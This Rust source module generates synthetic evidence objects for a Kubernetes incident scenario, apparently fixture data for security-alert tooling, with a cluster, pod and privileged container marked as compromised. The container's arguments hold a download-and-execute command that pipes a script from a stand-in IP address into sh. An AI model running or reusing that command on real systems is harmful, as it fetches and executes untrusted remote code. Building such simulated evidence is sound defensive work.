//! Evidence in containers and clusters.

use serde_json::{Value, json};

use super::cloud::azure;
use super::device::ip;
use super::{Kind, Scene};

pub(super) fn make(scene: &mut Scene<'_>, kind: Kind) -> Option<Value> {
    Some(match kind {
        "kubernetesCluster" => cluster(scene),
        "kubernetesNamespace" => namespace(scene),
        "kubernetesController" => controller(scene),
        "kubernetesServiceAccount" => service_account(scene),
        "kubernetesPod" => pod(scene, true),
        "kubernetesSecret" => {
            let own = json!({ "name": "registry-credentials", "namespace": namespace(scene), "secretType": "kubernetes.io/dockerconfigjson" });
            scene.make(kind, "", own)
        }
        "kubernetesService" => {
            let (inner, outer) = (scene.chance.private_ip(), scene.chance.public_ip());
            let own = json!({
                "clusterIP": ip(scene, &inner, ""),
                "externalIPs": [ip(scene, &outer, "")],
                "labels": { "app": "orders" },
                "name": "orders",
                "namespace": namespace(scene),
                "selector": { "app": "orders" },
                "servicePorts": [{ "appProtocol": "http", "name": "web", "nodePort": 30080, "port": 80, "protocol": "tcp", "targetPort": "8080" }],
                "serviceType": "loadBalancer",
            });
            scene.make(kind, "", own)
        }
        "container" => container(scene, true),
        "containerImage" => image(scene),
        "containerRegistry" => registry(scene),
        _ => return None,
    })
}

fn cluster(scene: &mut Scene<'_>) -> Value {
    let own = json!({
        "cloudResource": azure(scene, "Microsoft.ContainerService/managedClusters", "orders-aks"),
        "distribution": null,
        "name": "orders-aks",
        "platform": "aks",
        "version": "1.31.2",
    });
    scene.make("kubernetesCluster", "attacked", own)
}

fn namespace(scene: &mut Scene<'_>) -> Value {
    let own = json!({ "cluster": cluster(scene), "labels": { "team": "orders" }, "name": "orders" });
    scene.make("kubernetesNamespace", "", own)
}

fn controller(scene: &mut Scene<'_>) -> Value {
    let own =
        json!({ "labels": { "app": "orders" }, "name": "orders", "namespace": namespace(scene), "type": "Deployment" });
    scene.make("kubernetesController", "", own)
}

fn service_account(scene: &mut Scene<'_>) -> Value {
    let own = json!({ "name": "orders", "namespace": namespace(scene) });
    scene.make("kubernetesServiceAccount", "", own)
}

/// A pod; `whole` with its containers, else without, so that a container can name its pod.
fn pod(scene: &mut Scene<'_>, whole: bool) -> Value {
    let address = scene.chance.private_ip();
    let containers = if whole { json!([container(scene, false)]) } else { json!([]) };
    let own = json!({
        "containers": containers,
        "controller": if whole { controller(scene) } else { Value::Null },
        "ephemeralContainers": [],
        "initContainers": [],
        "labels": { "app": "orders" },
        "name": format!("orders-{}", scene.chance.hex(10)),
        "namespace": if whole { namespace(scene) } else { Value::Null },
        "podIp": ip(scene, &address, ""),
        "serviceAccount": if whole { service_account(scene) } else { Value::Null },
    });
    scene.make("kubernetesPod", "compromised", own)
}

fn container(scene: &mut Scene<'_>, whole: bool) -> Value {
    let own = json!({
        "args": ["-c", "curl -s http://203.0.113.9/x | sh"],
        "command": ["/bin/sh"],
        "containerId": scene.chance.hex(64),
        "image": image(scene),
        "isPrivileged": true,
        "name": "orders",
        "pod": if whole { pod(scene, false) } else { Value::Null },
    });
    scene.make("container", "compromised", own)
}

fn image(scene: &mut Scene<'_>) -> Value {
    let digest = format!("sha256:{}", scene.chance.hex(64));
    let registry_evidence = registry(scene);
    let inner = scene.make(
        "containerImage",
        "",
        json!({ "digestImage": null, "imageId": digest, "registry": registry_evidence }),
    );
    let own = json!({ "digestImage": inner, "imageId": "contoso.azurecr.example/orders:latest", "registry": registry(scene) });
    scene.make("containerImage", "", own)
}

fn registry(scene: &mut Scene<'_>) -> Value {
    scene.make("containerRegistry", "", json!({ "registry": "contoso.azurecr.example" }))
}
